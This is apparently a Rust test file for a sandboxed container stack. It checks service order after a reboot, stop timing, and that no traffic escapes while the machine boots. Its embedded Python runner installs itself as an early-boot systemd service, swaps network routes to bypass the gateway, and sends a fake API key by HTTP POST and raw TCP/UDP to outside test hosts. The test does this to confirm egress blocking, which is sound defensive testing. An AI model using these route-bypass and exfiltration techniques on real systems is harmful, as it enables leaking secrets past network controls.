//! Stopping and rebooting the stack: it comes back in order, and nothing gets out meanwhile.

use std::time::{Duration, Instant};

use cloud_init_proof::run::Run;
use polis_stack_proof::Result;
use polis_stack_proof::bench::Bench;
use polis_stack_proof::health::all_are_well;
use polis_stack_proof::internet::{OTHER, WEB};

use crate::ensure;
use crate::probe::{python, shell};

const MARK: &str = "while-it-boots";
const LIMIT: Duration = Duration::from_secs(150);
/// How long the stack may take to stop.
const STOP_LIMIT: Duration = Duration::from_secs(3);

/// Repeatedly tries to get out, as soon as the workspace has processes; counts its rounds from 0 at each boot.
const RUNNER: &str = r#"
import itertools, os, pathlib, socket, subprocess, time
from concurrent.futures import ThreadPoolExecutor
pathlib.Path("/home/rounds").unlink(missing_ok=True)
WEB, OTHER, MARK, SECRET = "@WEB", "@OTHER", "@MARK", "sk-ant-api03-" + "BYPASS" * 16 + "-AA"
def tcp(address, port, text=MARK):
    try:
        with socket.create_connection((address, port), 0.5) as sock:
            sock.sendall(text.encode())
            sock.recv(100)
    except OSError:
        pass
def udp(address, port):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(MARK.encode(), (address, port))
    except OSError:
        pass
pool = ThreadPoolExecutor(10)
post = f"POST /{MARK} HTTP/1.1\r\nHost: web.example\r\nContent-Length: {len(SECRET)}\r\n\r\n{SECRET}"
for round in itertools.count():
    way = ("10.10.1.10", "10.10.1.2", "10.10.1.20")[round % 3]
    subprocess.run(["ip", "route", "replace", OTHER, "via", way], stderr=subprocess.DEVNULL)
    tries = [(how, to, port) for how in (tcp, udp) for to in (WEB, OTHER) for port in (22, 9000)]
    tries += [(tcp, to, 80, post) for to in (WEB, OTHER)]
    for tried in [pool.submit(*each) for each in tries]:
        tried.result()
    with open("/home/rounds.new", "w") as file:
        file.write(f"{round}\n")
    os.rename("/home/rounds.new", "/home/rounds")
    time.sleep(0.05)
"#;

const UNIT: &str = "[Unit]\nDefaultDependencies=no\n[Service]\nExecStart=/usr/bin/python3 /home/runner.py\n\
                    [Install]\nWantedBy=sysinit.target\n";

/// After a reboot of the machine, everything comes back, and nothing gets out meanwhile.
pub(crate) fn a_reboot_is_closed(bench: &mut Bench) -> Result<()> {
    let runner = RUNNER
        .replace("@WEB", WEB)
        .replace("@OTHER", OTHER)
        .replace("@MARK", MARK);
    let put = format!(
        "import subprocess\nopen('/home/runner.py', 'w').write({})\n\
         open('/etc/systemd/system/runner.service', 'w').write({})\n\
         subprocess.run(['systemctl', 'enable', '--quiet', '--now', 'runner'], check=True)\n",
        serde_json::json!(runner),
        serde_json::json!(UNIT)
    );
    python(bench, &put, &[])?;
    reboot(bench, "reboot")?;
    let rounds = shell(
        bench,
        "sleep 2; systemctl is-active --quiet runner; cat /home/rounds; systemctl disable --quiet --now runner; \
         rm /etc/systemd/system/runner.service",
    )?;
    let count = rounds
        .parse::<u32>()
        .map_err(|error| format!("/home/rounds: {error}: `{rounds}`"))?;
    ensure(count > 3, || {
        format!("only {count} rounds were tried since the reboot, which shows nothing")
    })?;
    shell(bench, &format!("ip route del {OTHER} || true"))?;
    for mark in [MARK, "BYPASS"] {
        let seen = bench.internet.seen_with(mark)?;
        ensure(seen.is_empty(), || {
            format!("while the machine booted, this arrived outside: {seen:?}")
        })?;
    }
    Ok(())
}

/// The unit that started the stack also stops it, so the next boot starts it in order.
pub(crate) fn a_reboot_is_in_order(bench: &mut Bench) -> Result<()> {
    let unit = bench.guest.output("systemctl is-active polis.service")?;
    ensure(unit == "active", || {
        format!("polis.service is {unit} after a reboot")
    })?;
    reboot(bench, "second reboot")?;
    in_order(bench)
}

/// Reboots and waits until everything is healthy.
fn reboot(bench: &mut Bench, what: &str) -> Result<()> {
    let start = Instant::now();
    Run::new(&["docker", "restart", "--time", "60", bench.guest.name()]).output()?;
    bench
        .times
        .push((format!("{what}, until the machine is on"), start.elapsed()));
    let well = loop {
        match all_are_well(&bench.guest) {
            Err(_) if start.elapsed() < LIMIT => std::thread::sleep(Duration::from_millis(500)),
            result => break result,
        }
    };
    bench.times.push((
        format!("{what}, until everything is healthy"),
        start.elapsed(),
    ));
    // The unit may finish after the last health check.
    bench.guest.output(
        "while test \"$(systemctl is-active polis.service)\" = activating; do sleep 0.2; done",
    )?;
    well.map_err(|error| format!("{} s after a reboot: {error}", LIMIT.as_secs()))
}

/// Each container has started after its dependencies.
fn in_order(bench: &Bench) -> Result<()> {
    let started = bench.guest.output(
        "cd /opt/polis && docker compose config --format json | \
         jq -r '.services | to_entries[] | .key as $of | .value.depends_on // {} | keys[] | \"\\($of) \\(.)\"' | \
         while read -r of on; do \
           echo \"$of $on $(docker inspect --format '{{.State.StartedAt}}' polis-$of) $(docker inspect --format '{{.State.StartedAt}}' polis-$on)\"; \
         done",
    )?;
    for line in started.lines() {
        let [of, on, later, earlier] = line.split(' ').collect::<Vec<_>>()[..] else {
            return Err(format!("invalid line: {line}"));
        };
        ensure(later > earlier, || {
            format!("{of} has started at {later}, before {on} at {earlier}")
        })?;
    }
    ensure(started.lines().count() > 5, || {
        format!("too few dependencies: {started}")
    })
}

/// The stack stops in time without any container being killed. Measures how long starting and restarting take.
pub(crate) fn it_stops_in_time(bench: &mut Bench) -> Result<()> {
    let mut timed = |what: &str, script: &str| -> Result<Duration> {
        let start = Instant::now();
        bench
            .guest
            .output(&format!("cd /opt/polis && {script} 2>&1"))?;
        let took = start.elapsed();
        bench.times.push((what.to_owned(), took));
        Ok(took)
    };
    let stop = timed("the stack stops", "docker compose stop")?;
    // Check this now: a container that runs again has exit code 0.
    let killed = bench.guest.output(
        "docker ps --all --quiet | xargs docker inspect --format '{{.Name}} {{.State.ExitCode}}' | grep ' 137$' || true",
    )?;
    timed(
        "the stack starts, until everything is healthy",
        "docker compose up --detach --wait",
    )?;
    timed(
        "the stack restarts",
        "docker compose restart && docker compose up --detach --wait",
    )?;
    ensure(killed.is_empty(), || {
        format!("these containers did not stop in time and were killed: {killed}")
    })?;
    ensure(stop < STOP_LIMIT, || {
        format!("the stack took {:.1} s to stop", stop.as_secs_f64())
    })?;
    all_are_well(&bench.guest)
}
